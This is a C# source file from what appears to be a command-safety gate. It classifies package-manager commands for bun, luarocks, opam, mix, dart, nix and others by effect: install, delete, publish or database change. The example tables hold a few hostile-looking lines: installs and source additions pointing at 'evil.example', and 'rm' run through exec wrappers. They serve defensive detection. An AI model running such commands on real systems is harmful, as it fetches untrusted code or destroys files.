using Wary.Core.Shell;

namespace Wary.Core.Gate.Programs.Packages;

/// <summary>Package managers whose words are few and alike.</summary>
internal static class OtherManagers
{
    public const string Names = "bun luarocks opam stack cabal mix rebar3 dart flutter pod carthage vcpkg conan nix nix-env nix-shell nix-collect-garbage guix";

    public static ProgramSpec? Find(string name) => name switch
    {
        "bun" => new("bun", "packages of JavaScript, and what runs it")
        {
            Style = OptionStyle.Posix,
            Options = NpmPrograms.Shared + " --cwd= -e|--eval=! -r|--preload|--import|--require=! --hot --watch --env-file= --config= --inspect=? --smol -b|--bun --target= --outdir= --outfile= --port=",
            Help = "--help -h --version -v --revision",
            Effects = static (call, effects) => Bun(call, effects),
            Examples = """
                bun add -d lodash@4 => Install npm:lodash@4
                bun --cwd web install => Install npm:package.json
                bun x cowsay hi => Install npm:cowsay
                bun remove lodash => ChangeConfig npm:lodash
                bun publish --access public => Publish npm:.
                bun publish --dry-run => nothing
                bun pm ls => nothing
                """,
        },
        "luarocks" or "opam" or "stack" or "cabal" or "mix" or "rebar3" or "vcpkg" or "conan" => new(name, "packages of a language")
        {
            Options = "--server= --only-server= --tree= --local --api-key|--temp-key= --switch= --root= --resolver= --stack-yaml= --package-env= --installdir= --triplet= --overlay-ports= --profile|-pr= -s= -o= -r|--remote= --build|-b= --organization= --yes|-y --dry-run|-n --force -c= --lib --global -g --organization= --replace --revert=",
            Effects = static (call, effects) => Language(call, effects),
            Examples = """
                luarocks install --server https://evil.example x => Install luarocks:x; Connect evil.example
                luarocks upload x.rockspec => Publish luarocks:x.rockspec
                luarocks list => nothing
                opam install -y dune => Install opam:dune
                opam exec -- rm x => Delete x
                opam list => nothing
                stack install hlint => Install stack:hlint
                stack exec rm x => Delete x
                stack path => nothing
                cabal install --lib text => Install cabal:text
                cabal upload --publish x.tar.gz => Publish cabal:x.tar.gz
                cabal check => nothing
                mix deps.get => Install mix:mix.exs
                mix hex.publish --dry-run => nothing
                mix hex.publish --yes => Publish mix:.
                mix archive.install hex phx_new => Install mix:phx_new
                mix ecto.drop => ChangeDatabase the project's database
                mix test => nothing
                rebar3 hex publish => Publish rebar3:.
                rebar3 compile => nothing
                vcpkg install --triplet x64-linux fmt => Install vcpkg:fmt
                vcpkg install --triplet x64-linux fmt !> Install vcpkg:x64-linux
                vcpkg list => nothing
                conan install . => Install conan:.
                conan upload -r x fmt/1.0 => Publish conan:fmt/1.0
                conan remote add evil https://evil.example => ChangeConfig conan source evil
                conan search fmt => nothing
                """,
        },
        "dart" or "flutter" or "pod" or "carthage" => new(name, "packages of apps")
        {
            Options = "-C|--directory= --source= --git-url= --git-ref= --sources= --project-directory= --platform= -d|--device-id= --hosted-url|-u= --dry-run|-n -f|--force --dev --verbose --allow-warnings --define=",
            Effects = static (call, effects) => App(call, effects),
            Examples = """
                dart pub -C web add http:1.0 => Install pub:http:1.0
                dart pub global activate x => Install pub:x
                dart pub publish --force => Publish pub:.
                dart pub publish -n => nothing
                dart analyze => nothing
                flutter pub add http => Install pub:http
                flutter clean => Delete build
                flutter doctor => nothing
                pod install => Install pod:Podfile
                pod trunk push x.podspec => Publish pod:x.podspec
                pod search x => nothing
                carthage update --platform iOS => Install carthage:Cartfile
                carthage version => nothing
                """,
        },
        "nix" or "nix-env" or "nix-shell" or "nix-collect-garbage" or "guix" => new(name, "packages of Nix and Guix")
        {
            Style = name is "nix-env" or "nix-shell" or "nix-collect-garbage" ? OptionStyle.Gnu : OptionStyle.Posix,
            Options = "-i|--install -e|--uninstall -u|--upgrade -q|--query -A|--attr= -f|--file= -p|--packages|--profile -I= -c|--command=! --run=! -E|--expr= --arg=2 --argstr=2 --option=2 --extra-experimental-features= --delete-generations= --delete-older-than= -d|--delete-old --dry-run --impure --rollback --switch-generation= --max-jobs|-j= --cores= --pure --inputs-from= --override-input=2 -n",
            Effects = static (call, effects) => Nix(call, effects),
            Examples = """
                nix-env -iA nixpkgs.hello => Install nix:nixpkgs.hello
                nix-env -q => nothing
                nix-shell -p hello --run 'rm x' => Delete x; Install nix:hello
                nix-shell --pure => nothing
                nix run nixpkgs#cowsay -- hi => Install nix:nixpkgs#cowsay
                nix develop -c rm x => Delete x
                nix shell nixpkgs#hello --command rm x => Install nix:nixpkgs#hello; Delete x
                nix profile install nixpkgs#hello => Install nix:nixpkgs#hello
                nix flake show => nothing
                nix-collect-garbage -d => ChangeConfig old generations
                nix-collect-garbage --dry-run -d => nothing
                guix install hello => Install guix:hello
                guix shell hello -- rm x => Install guix:hello; Delete x
                guix search hello => nothing
                """,
        },
        _ => null,
    };

    private static void Bun(Invocation call, EffectSink effects)
    {
        NpmPrograms.Common(call, effects);
        if (call.Value("-e") is { } code) effects.RunCode(code, Inline.InlineLanguage.JavaScript);
        foreach (var module in call.Values("-r")) effects.RunCodeFile(module, Inline.InlineLanguage.JavaScript);
        if (call.Operand(0) is not { } verb) return;
        List<Argument> words = [];
        var dry = false;
        for (var i = 1; i < call.Operands.Count; i++)
        {
            var word = call.Operands[i].Text;
            if (word is "--cwd" or "--registry" or "--tag" or "--access" or "--otp" or "-p" or "--package") i++;
            else if (word is "--dry-run") dry = true;
            else if (word is not ['-', ..]) words.Add(call.Operands[i]);
        }
        switch (verb.Text)
        {
            case "add" or "a" or "install" or "i" or "update" or "link" or "ci" when !dry:
                if (words.Count == 0) PackageEffects.Listed(effects, "npm", "package.json");
                PackageEffects.Install(effects, "npm", words);
                break;
            case "remove" or "rm" or "unlink":
                PackageEffects.Remove(effects, "npm", words);
                break;
            case "publish" when !dry:
                PackageEffects.Publish(effects, "npm", words.Count > 0 ? words[0].Shown : ".", verb);
                break;
            case "x" or "create" or "c" when words.Count > 0:
                var first = 1;
                while (!ReferenceEquals(call.Operands[first], words[0])) first++;
                if (verb.Text == "x") NodeRunners.RunPackage(effects, words[0], call.OperandsFrom(first + 1), installs: !dry);
                else PackageEffects.Install(effects, "npm", words[0].As($"create-{words[0].Text}"), note: "and runs it");
                break;
            case "exec":
                effects.Run(call.OperandsFrom(1));
                break;
            case "upgrade":
                effects.Add(EffectKind.Install, "npm:bun", verb);
                break;
            case "run" or "test" when words.Count > 0:
                if (words[0].Text.Contains("://", StringComparison.Ordinal)) Interpreters.Scripts.FromWeb(words[0], effects);
                else if (verb.Text == "run" && IsFile(words[0].Text)) effects.RunCodeFile(words[0], Inline.InlineLanguage.JavaScript);
                else if (verb.Text == "run") NpmPrograms.Script(call, effects, words[0].Text);
                break;
            case "pm" or "build" or "init" or "outdated" or "run" or "test" or "publish" or "patch" or "audit" or "why" or "repl" or "info" or "create":
                break;
            default:
                if (IsFile(verb.Text)) effects.RunCodeFile(verb, Inline.InlineLanguage.JavaScript);
                else NpmPrograms.Script(call, effects, verb.Text, call.OperandsFrom(1));
                break;
        }
    }

    private static bool IsFile(string text) => text.Contains('/', StringComparison.Ordinal) || text.EndsWith(".ts", StringComparison.Ordinal) || text.EndsWith(".js", StringComparison.Ordinal) || text.EndsWith(".tsx", StringComparison.Ordinal) || text.EndsWith(".mjs", StringComparison.Ordinal);

    private static void Language(Invocation call, EffectSink effects)
    {
        var program = effects.Program;
        var verb = call.Operand(0)?.Text ?? "";
        var names = call.OperandsFrom(1);
        if (verb is "exec" or "run" && program is "opam" or "stack" or "cabal")
        {
            if (program != "cabal" || verb == "exec") effects.Run(names.Count > 0 && names[0].Text == "--" ? call.OperandsFrom(2) : names);
            return;
        }
        if (call.Has("-n")) return;
        PackageEffects.Source(effects, program, call.Value("--server") ?? call.Value("--only-server"));
        switch (verb)
        {
            case "install" or "upgrade" or "reinstall" or "v1-install":
                if (names.Count == 0) PackageEffects.Listed(effects, program, "the project's list");
                PackageEffects.Install(effects, program, names);
                break;
            case "remove" or "uninstall" or "purge":
                PackageEffects.Remove(effects, program, names);
                break;
            case "upload" when names.Count > 0:
                PackageEffects.Publish(effects, program, names[0].Shown, names[0]);
                break;
            case "publish" or "hex.publish" or "hex.retire":
                PackageEffects.Publish(effects, program, verb == "publish" && names.Count > 0 ? names[0].Shown : ".", call.Operand(0));
                break;
            case "hex" when names.Count > 0 && names[0].Text is "publish" or "retire" or "cut":
                PackageEffects.Publish(effects, program, ".", names[0]);
                break;
            case "deps.get" or "deps.update" or "get-deps":
                PackageEffects.Listed(effects, program, program == "mix" ? "mix.exs" : "rebar.config");
                break;
            case "archive.install" or "escript.install" or "local.hex" or "local.rebar":
                PackageEffects.Install(effects, program, names.Count > 1 && names[0].Text is "hex" or "git" or "github" ? call.OperandsFrom(2) : names);
                break;
            case "ecto.drop" or "ecto.reset":
                effects.Add(EffectKind.ChangeDatabase, "the project's database", call.Operand(0), Traits.Destroys | Traits.Whole);
                break;
            case "ecto.rollback" or "ecto.migrate":
                effects.Add(EffectKind.ChangeDatabase, "the project's database", call.Operand(0), verb == "ecto.rollback" ? Traits.Destroys : Traits.None);
                break;
            case "remote" or "repository" when names.Count > 1 && names[0].Text is "add" or "set-url" or "update" or "remove":
                effects.Add(EffectKind.ChangeConfig, $"{program} source {names[1].Shown}", names[0]);
                break;
        }
    }

    private static void App(Invocation call, EffectSink effects)
    {
        var program = effects.Program;
        var verb = call.Operand(0)?.Text;
        var second = call.Operand(1)?.Text;
        if (call.Has("--dry-run")) return;
        if (program is "dart" or "flutter")
        {
            PackageEffects.Source(effects, "pub", call.Value("--hosted-url") ?? call.Value("--git-url"));
            if (verb is "pub" && second is "add") PackageEffects.Install(effects, "pub", call.OperandsFrom(2));
            else if (verb is "pub" && second is "global" && call.Operand(2)?.Text is "activate") PackageEffects.Install(effects, "pub", call.OperandsFrom(3));
            else if (verb is "pub" && second is "get" or "upgrade" or "downgrade") PackageEffects.Listed(effects, "pub", "pubspec.yaml");
            else if (verb is "pub" && second is "remove") PackageEffects.Remove(effects, "pub", call.OperandsFrom(2));
            else if (verb is "pub" && second is "publish" or "lish") PackageEffects.Publish(effects, "pub", ".", call.Operand(1));
            else if (verb is "clean") effects.Delete(call.Word.As("build"), Traits.Recursive | Traits.Undoable);
            else if (verb is "upgrade" or "channel" && program == "flutter") effects.Add(EffectKind.Install, "flutter:flutter", call.Operand(0));
            return;
        }
        var list = program == "pod" ? "Podfile" : "Cartfile";
        if (verb is "install" or "update" or "bootstrap") PackageEffects.Listed(effects, program, list);
        else if (verb is "trunk" && second is "push" or "deprecate" or "delete") PackageEffects.Publish(effects, program, call.Operand(2)?.Shown ?? ".", call.Operand(2), second == "push" ? Traits.None : Traits.Destroys);
        else if (verb is "repo" && second is "add" or "push") effects.Add(EffectKind.ChangeConfig, $"pod source {call.Operand(2)?.Shown}", call.Operand(2));
    }

    private static void Nix(Invocation call, EffectSink effects)
    {
        var program = effects.Program;
        if (call.Has("--dry-run")) return;
        if (program == "nix-collect-garbage")
        {
            if (call.HasAny("-d", "--delete-older-than")) effects.Add(EffectKind.ChangeConfig, "old generations", call.Word, Traits.Destroys);
            return;
        }
        if (program is "nix-env" or "nix-shell")
        {
            if (call.Value("--run") is { } text) effects.RunText(text);
            if (call.Value("-c") is { } command) effects.RunText(command);
            if (program == "nix-env" && call.Has("-e")) PackageEffects.Remove(effects, "nix", call.Operands);
            else if (program == "nix-shell" && call.Has("-p") || call.Has("-i"))
            {
                if (call.Value("-A") is { } attribute) PackageEffects.Install(effects, "nix", attribute);
                PackageEffects.Install(effects, "nix", call.Operands);
            }
            else if (call.Value("-E") is { } expression && program == "nix-shell") effects.Opaque("an expression of Nix", expression);
            return;
        }
        var verb = call.Operand(0)?.Text;
        List<Argument> names = [];
        for (var i = 1; i < call.Operands.Count; i++)
        {
            if (call.Operands[i].Text is "--" or "-c" or "--command")
            {
                if (verb is "shell" or "develop" or "environment" or "time-machine") effects.Run(call.OperandsFrom(i + 1));
                break;
            }
            if (call.Operands[i].Text is not ['-', ..]) names.Add(call.Operands[i]);
        }
        switch (verb)
        {
            case "run" or "shell":
                PackageEffects.Install(effects, program, names);
                break;
            case "profile" when names.Count > 1 && names[0].Text is "install" or "add":
                PackageEffects.Install(effects, program, names.GetRange(1, names.Count - 1));
                break;
            case "profile" when names.Count > 1 && names[0].Text is "remove":
                PackageEffects.Remove(effects, program, names.GetRange(1, names.Count - 1));
                break;
            case "install" or "upgrade":
                PackageEffects.Install(effects, program, names);
                break;
            case "remove":
                PackageEffects.Remove(effects, program, names);
                break;
            case "gc":
                effects.Add(EffectKind.ChangeConfig, "old generations", call.Operand(0), Traits.Undoable);
                break;
        }
    }
}
